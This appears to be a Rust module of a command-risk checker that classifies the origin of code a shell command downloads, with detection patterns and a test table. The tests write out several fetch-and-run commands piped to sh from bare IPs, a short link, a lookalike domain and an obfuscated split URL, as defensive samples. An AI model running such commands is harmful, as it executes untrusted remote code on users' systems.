//! Where a command takes code from, as far as its text says.

use super::installers::{INSTALLERS, REPOSITORIES};
use crate::artifact::service::{Service, is_below};
use crate::artifact::{Artifact, repository};
use crate::text::Pattern;

/// The owner of an address that code comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Origin {
    /// This machine.
    Local,
    /// A project whose documented way of installation this is.
    Known,
    /// The project itself, by its manifest.
    Own,
    /// The command names no address: a variable, an argument.
    Open,
    Unknown,
    /// An address without an owner: a bare IP, a tunnel, a paste, a short link.
    Anonymous,
}

static ADDRESS: Pattern = Pattern::new(
    r#"(?i)\b(?P<scheme>https?|ftp)://(?:[^\s/@"'`]{1,80}@)?(?P<host>\[[0-9a-f:]+\]|[^\s/:"'`|)<>\\?#]+)(?::\d+)?(?P<path>/[^\s"'`|)<>]*)?"#,
);

static BARE: Pattern = Pattern::new(
    r#"(?i)(?:curl|wget|irm|iwr|invoke-restmethod|invoke-webrequest)\s(?:[^|\n]*\s)?["']?(?P<host>(?:[a-z0-9-]+\.)+[a-z]{2,10})(?P<path>/[^\s"'`|)]*)?["']?\s*(?:$|[|)])"#,
);

static PIECES: Pattern = Pattern::new(r#"["']\s*\+\s*["'][^"']*["']\s*\+\s*["']"#);

impl Origin {
    /// The origin that a command names; the worst where it names several.
    pub(super) fn of(command: &str) -> Self {
        Self::among(command, |_, _| false)
    }

    /// The same, for a command that stands in an artifact: whose repositories it is developed in is known.
    pub(super) fn within(artifact: &Artifact, command: &str) -> Self {
        let owners = &artifact.facts.owners;
        Self::among(command, |host, path| {
            repository::owner(&format!("https://{host}{path}")).is_some_and(|owner| owners.contains(&owner))
        })
    }

    fn among(command: &str, own: impl Fn(&str, &str) -> bool) -> Self {
        let mut worst = None;
        let parts = ["host", "path"];
        let bare = BARE.groups_iter(command, parts).filter(|(_, [host, _])| !is_saved_as(command, host.as_ref()));
        for (_, [host, path]) in ADDRESS.groups_iter(command, parts).chain(bare) {
            let text = |range: Option<std::ops::Range<usize>>| command.get(range.unwrap_or(0..0)).unwrap_or_default();
            let (host, path) = (text(host).to_ascii_lowercase(), text(path));
            let origin = Self::of_host(&host, path);
            let own = origin == Self::Unknown && own(&host, path);
            worst = worst.max(Some(if own { Self::Own } else { origin }));
        }
        // An address in pieces, `"https://" + "a" + ".b"`, has an owner who does not want to be found.
        let hidden = || PIECES.is_match(command);
        worst.unwrap_or_else(|| if hidden() { Self::Anonymous } else { Self::Open })
    }

    fn of_host(host: &str, path: &str) -> Self {
        if matches!(host, "localhost" | "0.0.0.0" | "[::1]" | "host.docker.internal") || host.starts_with("127.") {
            return Self::Local;
        }
        if host.starts_with(['$', '{', '<']) {
            return Self::Open;
        }
        let number = !host.is_empty() && host.chars().all(|c| c.is_ascii_digit() || c == '.');
        if number
            || host.starts_with('[')
            || host.starts_with("0x")
            || host.rsplit_once('.').is_some_and(|(_, last)| last == "onion")
            || Service::of(host).is_some()
        {
            return Self::Anonymous;
        }
        let repository = path.trim_start_matches('/').to_ascii_lowercase();
        let hosted = matches!(host, "raw.githubusercontent.com" | "github.com" | "raw.github.com");
        let installs = |entry: &&str| match entry.split_once('/') {
            Some((named, start)) => host == named && repository.starts_with(start),
            None => is_below(host, std::slice::from_ref(entry)),
        };
        if INSTALLERS.iter().any(installs) || (hosted && REPOSITORIES.iter().any(|known| repository.starts_with(known)))
        {
            return Self::Known;
        }
        Self::Unknown
    }
}

/// Whether a word is the name that a download gets: `-o install.sh` names no host.
fn is_saved_as(command: &str, word: Option<&std::ops::Range<usize>>) -> bool {
    let before = word.and_then(|word| command.get(..word.start)).unwrap_or_default().trim_end_matches(['"', '\'']);
    let option = before.trim_end().rsplit(char::is_whitespace).next().unwrap_or_default();
    before.ends_with(char::is_whitespace)
        && (matches!(option, "-O" | "--output" | "--output-document" | "-OutFile") || is_short_output(option))
}

/// Whether letters of options end with the one that names a file: `-fsSLo`.
fn is_short_output(option: &str) -> bool {
    option.strip_prefix('-').is_some_and(|letters| {
        letters.ends_with('o') && letters.len() <= 8 && letters.bytes().all(|letter| letter.is_ascii_alphabetic())
    })
}

/// Variables in a command.
static VARIABLE: Pattern = Pattern::new(r"\$?\{(?P<braced>\w{1,40})\}|\$(?P<bare>\w{1,40})");
/// A name that is given an address.
static NAMED: Pattern =
    Pattern::new(r#"\b(?P<name>\w{1,40})(?:\s?:\s?\w{1,20})?\s?=\s?["'`]?(?P<address>https?://[^\s"'`;]{4,200})"#);

/// The addresses that the variables of a command have in the same text.
pub(super) fn named_addresses<'t>(text: &'t str, command: &str) -> Vec<&'t str> {
    let variables = VARIABLE.groups_iter(command, ["braced", "bare"]);
    let names: Vec<&str> = variables.filter_map(|(_, [braced, bare])| command.get(braced.or(bare)?)).take(8).collect();
    if names.is_empty() {
        return Vec::new();
    }
    let named = NAMED.groups_iter(text, ["name", "address"]);
    let addresses = named.filter_map(|(_, [name, address])| Some((text.get(name?)?, text.get(address?)?)));
    addresses.filter(|(name, _)| names.contains(name)).map(|(_, address)| address).take(8).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_have_owners() {
        for (command, expected) in [
            ("curl -LsSf https://astral.sh/uv/install.sh | sh", Origin::Known),
            ("curl -fsSL get.docker.com | sh", Origin::Known),
            ("curl https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh", Origin::Known),
            ("curl https://raw.githubusercontent.com/someone/x/main/i.sh", Origin::Unknown),
            ("curl https://astral.sh.example.net/i.sh | sh", Origin::Unknown),
            ("curl https://astral.sh@203.0.113.9/i.sh | sh", Origin::Anonymous),
            ("curl -s http://203.0.113.9:8080/i | sh", Origin::Anonymous),
            ("wget -qO- https://bit.ly/abc | sh", Origin::Anonymous),
            ("curl -s http://localhost:3000/x | sh", Origin::Local),
            ("curl -s \"$URL\" | sh", Origin::Open),
            ("curl -sSL https://install.pi-hole.net -o pi.sh", Origin::Known),
            ("curl -sSL https://astral.sh get.example.sh | sh", Origin::Unknown),
            ("irm https://get.scoop.sh | iex", Origin::Known),
            ("curl -LsSf https://hf.co/cli/install.sh | bash", Origin::Known),
            ("curl -LsSf https://hf.co/someone/cli/resolve/main/install.sh | bash", Origin::Unknown),
            (r#"curl -s https://" + "a" + ".example" + "/p | sh"#, Origin::Anonymous),
        ] {
            assert_eq!(Origin::of(command), expected, "{command}");
        }
    }
}
